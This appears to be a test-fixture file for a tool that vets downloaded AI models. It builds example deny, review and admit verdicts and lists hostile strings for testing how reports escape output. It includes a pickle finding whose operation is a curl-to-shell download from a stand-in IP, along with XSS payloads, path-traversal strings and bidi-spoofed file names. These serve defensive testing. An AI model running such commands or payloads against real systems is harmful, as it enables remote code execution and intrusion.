import type { FileRecord } from '../../src/domain/artifact.ts';
import type { Check, CheckOutcome } from '../../src/domain/check.ts';
import { assembleDossier } from '../../src/domain/dossier.ts';
import { type Evidence, evidenceOf } from '../../src/domain/evidence.ts';
import { type Finding, findingOf, identityOf, type Rule } from '../../src/domain/finding.ts';
import type { LicenceReading } from '../../src/domain/licence.ts';
import type { ScannedFile } from '../../src/domain/scan.ts';
import { scanVerdictOf } from '../../src/domain/scan.ts';
import { type IntendedUse, UNSTATED_USE } from '../../src/domain/use.ts';
import type { Reason, Verdict } from '../../src/domain/verdict.ts';
import type { Vetting } from '../../src/domain/vetting.ts';
import { type Digest, digestOf } from '../../src/kernel/digest.ts';
import type { Json } from '../../src/kernel/json.ts';
import type { ScanReport } from '../../src/reports/scan-report.ts';
import { scoreModel } from '../../src/scorecard/scorecard.ts';

/** Rules as analyzers would state them; the models and companies are invented. */
export const EXAMPLE_RULES = {
  runsCommand: {
    id: 'pickle-imports/runs-command',
    says: 'malicious',
    severity: 'critical',
    title: 'Loading the file runs a shell command.',
    why: 'A pickle is a program: whoever loads it runs what it says, with the rights of the process that loads it.',
    remedy: 'Do not load the file. Take the weights as safetensors, or mirror the model without it.',
    references: ['CWE-502', 'AML.T0011.000', 'CVE-2025-32434'],
  },
  encrypted: {
    id: 'unread-files/encrypted',
    says: 'unscannable',
    severity: 'high',
    title: 'An encrypted archive could not be read.',
    why: 'Nobody can say what it holds until somebody opens it.',
    remedy: 'Leave it out of the mirror, or ask the publisher for it in the clear.',
    references: [],
  },
  contradicts: {
    id: 'licence/claim-contradicts-text',
    says: 'review',
    severity: 'high',
    title: 'The licence text contradicts the card.',
    why: 'Which of the two binds you is a question for a lawyer, not for a program.',
    remedy: 'Let Legal counsel rule by the stricter of the two.',
    references: [],
  },
  autoMap: {
    id: 'remote-code/auto-map',
    says: 'suspicious',
    severity: 'medium',
    title: "Loading can run the publisher's Python.",
    why: 'With trust_remote_code the loader imports this file and runs it.',
    remedy: 'Serve with the built-in implementation of this architecture, and leave trust_remote_code off.',
    references: ['CWE-94'],
  },
  bidiName: {
    id: 'unread-files/misleading-name',
    says: 'suspicious',
    severity: 'medium',
    title: 'A file name hides its type.',
    why: 'A character in it turns the direction of writing around, so that people read another name than programs do.',
    remedy: 'Leave it out of the mirror.',
    references: ['CWE-451'],
  },
  noDigest: {
    id: 'pinning/claimed-digest',
    says: 'note',
    severity: 'info',
    title: "Digests of large files are the hub's word.",
    why: 'Only their headers were read.',
    remedy: 'Run again with --download.',
    references: [],
  },
} as const satisfies Record<string, Rule>;

const CLAIMED_BY = 'the hub';
const MODEL = 'lanternworks/heron-8b-instruct';

export function proven(path: string, size: number, more: Partial<FileRecord> = {}): FileRecord {
  return {
    path,
    size,
    kind: 'json',
    role: 'config',
    digest: { kind: 'proven', sha256: digestOf(path) },
    loadable: true,
    coverage: 'whole',
    ...more,
  };
}

function claimedShard(number: number, size: number): FileRecord {
  const path = `model-0000${number}-of-00004.safetensors`;
  return proven(path, size, {
    kind: 'safetensors',
    role: 'weights',
    digest: { kind: 'claimed', sha256: digestOf(path), by: CLAIMED_BY },
    coverage: 'structure',
  });
}

const HOSTILE_NAME = 'assets/chart_\u202Egnp.py';

const DENIED_FILES: readonly FileRecord[] = [
  proven(HOSTILE_NAME, 1_204, { kind: 'python', role: 'code' }),
  proven('assets/eval_outputs.zip', 2_310_442, { kind: 'zip', role: 'other' }),
  proven('assets/banner.png', 412_000, { kind: 'media', role: 'document', loadable: false, coverage: 'none' }),
  proven('config.json', 1_112),
  proven('LICENSE', 14_003, { kind: 'text', role: 'licence', loadable: false }),
  claimedShard(1, 4_976_698_672),
  claimedShard(2, 4_999_802_720),
  claimedShard(3, 4_915_916_176),
  claimedShard(4, 1_168_138_808),
  proven('modeling_heron.py', 38_412, { kind: 'python', role: 'code' }),
  proven('notes.txt', 0, {
    kind: 'empty',
    role: 'document',
    digest: { kind: 'unknown', reason: 'the hub states none' },
    coverage: 'none',
  }),
  proven('README.md', 9_120, { kind: 'text', role: 'card', loadable: false }),
  proven('tokenizer.json', 9_085_657, { role: 'tokenizer' }),
  proven('training_args.bin', 6_712, { kind: 'pytorch-zip', role: 'other' }),
];

const RUNS_COMMAND = findingOf(EXAMPLE_RULES.runsCommand, {
  message: 'Loading the file downloads a program and starts it in a shell.',
  location: { path: 'training_args.bin', member: ['training_args/data.pkl'], offset: 551 },
  operation: `posix.system('curl -s http://198.51.100.23/i | sh')`,
});
const ENCRYPTED = findingOf(EXAMPLE_RULES.encrypted, { location: { path: 'assets/eval_outputs.zip' } });
const CONTRADICTS = findingOf(EXAMPLE_RULES.contradicts, {
  message: 'The card says apache-2.0; the LICENSE file reads as Heron Community Licence 1.2.',
  location: { path: 'README.md', line: 3 },
  confidence: 'likely',
});
const AUTO_MAP = findingOf(EXAMPLE_RULES.autoMap, {
  location: { path: 'config.json', line: 12 },
  operation: 'auto_map.AutoModelForCausalLM = modeling_heron.HeronForCausalLM',
});
const BIDI_NAME = findingOf(EXAMPLE_RULES.bidiName, { location: { path: HOSTILE_NAME } });
const NO_DIGEST = [1, 2, 3, 4].map((number) =>
  findingOf(EXAMPLE_RULES.noDigest, { location: { path: `model-0000${number}-of-00004.safetensors` } }),
);

export function check(analyzer: string, question: string, outcome: CheckOutcome): Check {
  return { analyzer, version: 1, question, outcome };
}

export function completed(...findings: readonly Finding[]): CheckOutcome {
  return { kind: 'completed', findings };
}

const DENIED_CHECKS: readonly Check[] = [
  check('pickle-imports', 'Can loading it run code?', completed(RUNS_COMMAND)),
  check('unread-files', 'Could every file be read?', completed(BIDI_NAME, ENCRYPTED)),
  check('remote-code', "Does it ask to run its publisher's code?", completed(AUTO_MAP)),
  check('safetensors-layout', 'Are the weights what their headers say?', completed()),
  check('gguf-layout', 'Are the GGUF headers sound?', { kind: 'not-applicable', reason: 'There is no GGUF file.' }),
  check('chat-template', 'Does its chat template do more than format?', {
    kind: 'failed',
    reason: 'the template nests deeper than 256 levels.',
    findings: [],
  }),
  check('licence', 'Is the licence what the card says?', completed(CONTRADICTS)),
  check('publisher', 'Is the publisher who it says it is?', { kind: 'unanswered', missing: ['hub-model'] }),
  check('secrets', 'Did anybody leave a secret in it?', completed()),
  check('pinning', 'Is every byte pinned?', completed(...NO_DIGEST)),
];

const CLAIMS_USE: IntendedUse = {
  ...UNSTATED_USE,
  purpose: 'Sort incoming motor claims and draft a first answer for a clerk',
  commercial: true,
  exposure: 'internal',
  monthlyUsers: 1400,
  regions: ['EU', 'GB'],
  regulatedDomain: 'insurance',
  trainsOtherModels: false,
  personalData: true,
};

function reason(id: string, outcome: Reason['outcome'], why: string, more: Partial<Reason> = {}): Reason {
  return { kind: 'rule', id, outcome, why, remedy: '', findings: [], ...more };
}

const DENIED: Verdict = {
  outcome: 'deny',
  reasons: [
    reason('licence-contradiction', 'review', 'The licence is not the one the model card states.', {
      remedy: 'Let Legal counsel rule on the licence, or choose another model.',
      findings: [identityOf(CONTRADICTS)],
    }),
    reason(
      'malicious-file',
      'deny',
      'Loading one of its files runs a shell command that downloads and starts a program.',
      {
        remedy: 'Do not load this revision.',
        findings: [identityOf(RUNS_COMMAND)],
      },
    ),
    reason('unread-files', 'deny', 'A file could not be looked into: nobody can say what it holds.', {
      kind: 'unscannable',
      remedy: 'Vet a mirror without it.',
      findings: [identityOf(ENCRYPTED)],
    }),
    reason('remote-code', 'review', "The publisher's own Python would run if it is loaded with trust_remote_code.", {
      findings: [identityOf(AUTO_MAP), identityOf(BIDI_NAME)],
    }),
    reason('chat-template', 'deny', 'A check broke before it could answer.', { kind: 'silence' }),
  ],
  waivers: [
    {
      target: identityOf(BIDI_NAME),
      owner: 'M. Okafor, ML platform',
      reason: 'The mirror leaves the file out.',
      until: '2026-06-30',
      state: 'applied',
    },
    {
      target: 'check:publisher',
      owner: 'M. Okafor',
      reason: 'Known publisher.',
      until: '2026-01-31',
      state: 'expired',
    },
  ],
  duties: [],
};

const POLICY_DIGEST: Digest = digestOf('policy');

/** A model with a bit of everything that can be wrong: verdict `deny`. */
export function denied(change: Partial<Vetting> = {}): Vetting {
  return withScorecard({ ...deniedAsSuch(), ...change });
}

function withScorecard(vetting: Vetting): Vetting {
  return { scorecard: scoreModel({ dossier: vetting.dossier, at: vetting.vettedAt }), ...vetting };
}

function deniedAsSuch(): Vetting {
  const bytesTotal = DENIED_FILES.reduce((sum, { size }) => sum + size, 0);
  return {
    schemaVersion: '1.0',
    tool: { name: 'weighbridge', version: '0.1.0' },
    reference: `hf:${MODEL}@main`,
    vettedAt: '2026-03-11T14:02:31.000Z',
    dossier: assembleDossier({
      artifact: {
        digest: digestOf('artifact'),
        manifest: null,
        origin: { source: 'hf', name: MODEL, revision: '4f1c9e27b0d8a6635e1f0c2b9d7745a80e3fbc12', requested: 'main' },
        files: DENIED_FILES,
      },
      use: CLAIMS_USE,
      checks: DENIED_CHECKS,
      evidence: [
        evidenceOf('hub-model', 'hub', '2026-03-11T14:02:29.000Z', { gated: false, tags: ['text-generation'] }),
      ],
    }),
    policy: { id: 'default', version: 7, digest: POLICY_DIGEST },
    verdict: DENIED,
    actions: [
      { text: 'Do not load this revision.', command: null },
      {
        text: 'Mirror it without training_args.bin and assets/eval_outputs.zip, and vet the mirror.',
        command: 'weighbridge vet ./mirror --use claims.yaml',
      },
      { text: 'Look for machines that loaded it, and for traffic to 198.51.100.23.', command: null },
    ],
    openQuestions: [
      {
        state: 'unscannable',
        question: 'What the encrypted archive holds',
        why: 'AES entries, and no password given.',
        answeredBy: 'Leave the file out',
      },
      {
        state: 'unanswered',
        question: 'Whether the publisher is who it says it is',
        why: 'The hub gave no account of the organisation.',
        answeredBy: 'Vet again with a token that may read it',
      },
      {
        state: 'failed',
        question: 'Whether the chat template does more than format',
        why: 'The check broke on it.',
        answeredBy: 'A report of the fault, or a shorter template',
      },
      {
        state: 'claimed',
        question: 'Whether the weights are the stated bytes',
        why: "Only the headers of the four shards were read; their digests are the hub's word.",
        answeredBy: 'A full download: --download',
      },
    ],
    reading: { bytesRead: 11_722_000, bytesTotal, requests: 31, milliseconds: 2140 },
    rules: Object.values(EXAMPLE_RULES),
    decision: null,
  };
}

/** A model that a person must look at: verdict `review`. */
export function reviewed(): Vetting {
  const { dossier, ...vetting } = deniedAsSuch();
  const checks = [
    check('licence', 'Is the licence what the card says?', completed(CONTRADICTS)),
    check('pickle-imports', 'Can loading it run code?', { kind: 'not-applicable', reason: 'There is no pickle.' }),
  ];
  const files = [
    proven('README.md', 9_120, { kind: 'text', role: 'card' }),
    proven('model.safetensors', 1_340_000_000),
  ];
  const findings = [identityOf(CONTRADICTS)];
  const why = 'The card says MIT; the file does not.';
  return withScorecard({
    ...vetting,
    reference: 'hf:marshlight/wren-embed-large',
    dossier: assembleDossier({
      ...dossier,
      artifact: { ...dossier.artifact, manifest: digestOf('wren'), files },
      checks,
    }),
    verdict: {
      outcome: 'review',
      reasons: [reason('licence-contradiction', 'review', why, { remedy: 'Ask Legal counsel to rule.', findings })],
      waivers: [],
      duties: [],
    },
    actions: [{ text: 'Ask Legal counsel to rule, with a reason.', command: null }],
    openQuestions: [],
    reading: { bytesRead: 2_900_000, bytesTotal: 1_340_009_120, requests: 9, milliseconds: 800 },
    rules: [EXAMPLE_RULES.contradicts],
  });
}

/** A model in a folder that nothing stands against, signed: verdict `admit`. */
export function admitted(): Vetting {
  const files = [
    proven('config.json', 684),
    proven('LICENSE', 11_357, { kind: 'text', role: 'licence', loadable: false }),
    proven('model.safetensors', 487_900_000, { kind: 'safetensors', role: 'weights' }),
    proven('tokenizer.json', 1_355_256, { role: 'tokenizer' }),
  ];
  const bytesTotal = files.reduce((sum, { size }) => sum + size, 0);
  return withScorecard({
    ...deniedAsSuch(),
    reference: './models/dunlin-asr-small',
    dossier: assembleDossier({
      artifact: {
        digest: digestOf('dunlin'),
        manifest: digestOf('dunlin manifest'),
        origin: { source: 'directory', name: 'dunlin-asr-small', revision: null, requested: null },
        files,
      },
      use: { ...CLAIMS_USE, purpose: 'Meeting notes', regulatedDomain: null, personalData: false },
      checks: [
        check('safetensors-layout', 'Are the weights what their headers say?', completed()),
        check('secrets', 'Did anybody leave a secret in it?', completed()),
        check('pickle-imports', 'Can loading it run code?', { kind: 'not-applicable', reason: 'There is no pickle.' }),
      ],
      evidence: [],
    }),
    verdict: {
      outcome: 'admit',
      reasons: [],
      waivers: [],
      duties: [
        {
          id: 'verify-bytes',
          text: 'Hash every file before it is served, and compare with the decision.',
          files: ['model.safetensors'],
          owner: 'release owner',
          due: '2026-03-11',
          when: 'before first use',
          probe: null,
        },
      ],
    },
    actions: [
      {
        text: 'Check before each start.',
        command: 'weighbridge verify ./models/dunlin-asr-small --decision dunlin.decision.json',
      },
    ],
    openQuestions: [],
    reading: { bytesRead: bytesTotal, bytesTotal, requests: 0, milliseconds: 500 },
    rules: [],
    decision: { file: 'dunlin.decision.json', keyId: 'SHA256:5o7Jv0aXo2m1', expiresAt: '2026-09-07T14:02:31.000Z' },
  });
}

/** What names, messages and operations from outside may bring. */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; background: url(//198.51.100.23/x)",
  '](http://198.51.100.23/x) [click](javascript:alert(1))',
  '![x](http://198.51.100.23/x.png)',
  'a | b | c',
  'a \\| b',
  '`code` ``` fence\n```\n# heading\n- item',
  '```',
  'line\nbreak\r\n\u2028and\u2029more',
  'bidi \u202Egnp.exe \u2066isolate\u2069 zero\u200Bwidth \u{E0041}tag',
  '\u001B[31mred\u001B[0m \u009B31m \u0007bell \u0000nul',
  '\uD800 lone surrogate',
  '**bold** _em_ ~~strike~~ $math$ &lt; &#60;',
  'www.evil.example and https://evil.example and mail@evil.example @everyone @@x',
  '<!-- comment --> <![CDATA[x]]> </style></title></body>',
  '../../etc/passwd',
  '//198.51.100.23/share',
  'file:///etc/passwd',
  '',
  'é ü 日本語 עברית 🚚',
  `long ${'x'.repeat(5000)}`,
] as const;

/** A licence reading whose every word is `text`. */
function hostileReading(hostileText: string): Evidence {
  // As the reading mends it, before it becomes evidence.
  const text = hostileText.toWellFormed();
  const span = { source: text, line: 1, text };
  const reading: LicenceReading = {
    verdict: 'deny',
    explanation: text,
    reasons: [
      { verdict: 'deny', subject: 'base', about: text, licence: text, record: text, field: text, says: text, span },
    ],
    duties: [{ id: text, text, licence: text, owner: text, due: text, probe: text }],
    states: [{ state: 'declared', source: text, line: 1, text, records: [text], match: text }],
    concluded: [text],
  };
  return evidenceOf('licence-reading', 'licences', '2026-03-11T14:02:00Z', reading as unknown as Json);
}

/** A vetting in which everything that can come from outside is `text`. */
export function hostile(text: string): Vetting {
  const base = deniedAsSuch();
  const { dossier } = base;
  const foreign = findingOf(EXAMPLE_RULES.runsCommand, {
    message: text,
    location: { path: text, member: [text, text], offset: 1, line: 2 },
    operation: text,
  });
  const { location: _, ...placeless } = foreign;
  const checks = [
    check('hostile', text, { kind: 'failed', reason: text, findings: [foreign, { ...placeless, rule: 'no/such' }] }),
    check('silent', 'Is it?', { kind: 'not-applicable', reason: text }),
  ];
  return withScorecard({
    ...base,
    reference: text,
    dossier: {
      ...dossier,
      artifact: {
        ...dossier.artifact,
        origin: { source: 'directory', name: text, revision: text, requested: `${text}.` },
        files: [
          proven(text, 12, { digest: { kind: 'claimed', sha256: digestOf('x'), by: text } }),
          proven(`${text}2`, 12, { digest: { kind: 'unknown', reason: text }, coverage: 'none' }),
        ],
      },
      use: { ...dossier.use, purpose: text, regions: [text], regulatedDomain: text, seat: text },
      checks,
      evidence: [...dossier.evidence, hostileReading(text)],
    },
    verdict: {
      outcome: 'deny',
      reasons: [reason(text, 'deny', text, { remedy: text, findings: [identityOf(foreign)] })],
      waivers: [{ target: text, owner: text, reason: text, until: text, state: 'unmatched' }],
      duties: [{ id: text, text, files: [text], owner: text, due: text, when: text, probe: text }],
    },
    policy: { ...base.policy, id: text },
    actions: [{ text, command: text }],
    openQuestions: [{ state: 'unknown', question: text, why: text, answeredBy: text }],
    decision: { file: text, keyId: text, expiresAt: text },
  });
}

/** The denied model's files as `scan` would give them. */
export function exampleScan(): ScanReport {
  const { dossier, tool, rules } = denied();
  const findings = dossier.checks.flatMap(({ outcome }) => ('findings' in outcome ? outcome.findings : []));
  return {
    tool,
    rules,
    files: dossier.artifact.files.map((file) => scanned(file, findings)),
    unopened: [{ path: 'gone', code: 'path-missing', message: 'There is nothing at this path: gone' }],
    root: '/srv/models',
  };
}

function scanned({ path, kind, size, digest, coverage }: FileRecord, all: readonly Finding[]): ScannedFile {
  const findings = all.filter(({ location }) => location?.path === path);
  const verdict = scanVerdictOf(findings);
  // Of two the second is known, so that reports have both.
  const known = findings
    .slice(1)
    .map((finding) => ({ finding, reason: 'Looked at.', until: '2027-03-31', bytes: null }));
  const news = findings.slice(0, 1);
  return {
    path,
    within: path,
    kind,
    size,
    digest,
    coverage,
    verdict,
    newVerdict: scanVerdictOf(news),
    findings: news,
    known,
  };
}
